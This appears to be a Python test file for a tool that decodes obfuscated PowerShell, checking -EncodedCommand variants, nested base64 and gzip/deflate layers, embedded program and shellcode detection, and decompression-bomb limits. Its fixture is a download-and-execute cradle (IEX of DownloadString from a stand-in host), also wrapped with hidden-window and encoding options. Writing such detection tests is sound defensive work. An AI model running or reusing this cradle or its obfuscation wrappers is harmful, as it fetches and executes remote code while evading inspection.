"""Encoded PowerShell is decoded layer by layer, within limits, and nothing else is taken for it."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.inquiries.decoding import CUT, MOST_BYTES, MOST_LAYERS, MOST_PIECES, decoded

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('https://mail.example/u.ps1')"


def encoded(text: str) -> str:
    """Return a text as -EncodedCommand takes it."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


def deflated(data: bytes) -> bytes:
    """Return data as DeflateStream writes it."""
    made = zlib.compressobj(wbits=-15)
    return made.compress(data) + made.flush()


@pytest.mark.parametrize("option", ["-enc", "-EncodedCommand", "/e", "-eC", "–enc", "-ENCOD"])
def test_arguments(option: str) -> None:
    """The argument is found under any way to write the option."""
    assert decoded(f"powershell.exe -nop {option} {encoded(SCRIPT)}") == [SCRIPT]


@pytest.mark.parametrize("compress", [gzip.compress, deflated, zlib.compress], ids=["gzip", "deflate", "zlib"])
def test_compressed_layers(compress: object) -> None:
    """What lies compressed inside base64 inside base64 is shown, each layer by itself."""
    inner = base64.b64encode(compress((SCRIPT * 3).encode())).decode()  # type: ignore[operator]
    outer = f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{inner}'));IEX $s"
    assert decoded(f"powershell -w hidden -e {encoded(outer)}") == [outer, SCRIPT * 3]


@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=8, max_size=200).filter(str.strip))
def test_any_script(script: str) -> None:
    """Whatever a script says is shown as it is."""
    assert decoded(f"powershell -enc {encoded(script)}")[:1] == [script]


@given(st.text())
def test_any_text(text: str) -> None:
    """No text breaks it, and what comes out is bounded."""
    assert len(decoded(text)) <= MOST_PIECES


def test_a_layer_that_is_no_text_is_told() -> None:
    """A program or machine code inside the layers leaves its kind and size, and is not searched further."""
    program = b"MZ\x90\x00" + bytes(range(256)) * 40
    packed = base64.b64encode(deflated(program)).decode()
    line = "[deflate of 10,244 bytes: a program of Windows, begins with 4d 5a 90 00 00 01 02 03]"
    assert decoded(f"$d=[Convert]::FromBase64String('{packed}')") == [line]
    assert decoded(f"$d='{packed}'") == []
    code = base64.b64encode(b"\xfc\xe8" + bytes(range(128, 178))).decode()
    (told,) = decoded(f"[Byte[]]$c = [System.Convert]::FromBase64String( '{code}' )")
    assert told.startswith("[52 bytes: machine code by its first bytes, begins with fc e8")
    bomb = base64.b64encode(gzip.compress(bytes(20 << 20))).decode()
    assert decoded(f"FromBase64String('{bomb}')")[0].startswith(f"[gzip of more than {MOST_BYTES:,} bytes: no text")


@pytest.mark.parametrize("script", ["Запустить", "実行する", "εκτέλεση", "تنفيذ", "Start Запустить"])
def test_commands_in_any_script(script: str) -> None:
    """The argument of PowerShell is UTF-16, whatever letters it has; that of another program is not taken for it."""
    assert decoded(f"powershell -enc {encoded(script)}") == [script]
    assert decoded("pwsh -ExecutionPolicy Unrestricted -File x.ps1") == []
    assert decoded("grep -e passwordpassword") == []


def test_bombs() -> None:
    """A compressed layer that would grow beyond measure is cut off, and the cut is told."""
    begun = time.process_time()
    bomb = base64.b64encode(gzip.compress(b"A" * (200 << 20), 9)).decode()
    (found,) = decoded(f"x FromBase64String('{bomb}')")
    assert len(found) == MOST_BYTES + len(CUT)
    assert found.endswith(CUT)
    assert time.process_time() - begun < 5


def test_depth_and_number() -> None:
    """Layers inside layers, and pieces beside pieces, end at their limits."""
    text = SCRIPT
    for _ in range(2 * MOST_LAYERS):
        text = f"-enc {base64.b64encode(text.encode()).decode()}"
    assert len(decoded(text)) == MOST_LAYERS
    many = " ".join(f"-enc {encoded(f'script number {number:04}')}" for number in range(10 * MOST_PIECES))
    assert len(decoded(many)) == MOST_PIECES


@pytest.mark.parametrize(
    "text",
    [
        "",
        "certutil.exe -encode c:\\file.exe file.txt",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "d" * 64,
        "'" + base64.b64encode(bytes(range(256))).decode() + "'",
        "-enc AAAAAAAAAAAAAAAAAAAA",
    ],
)
def test_nothing_encoded(text: str) -> None:
    """What is no encoded text is not shown as one."""
    assert decoded(text) == []
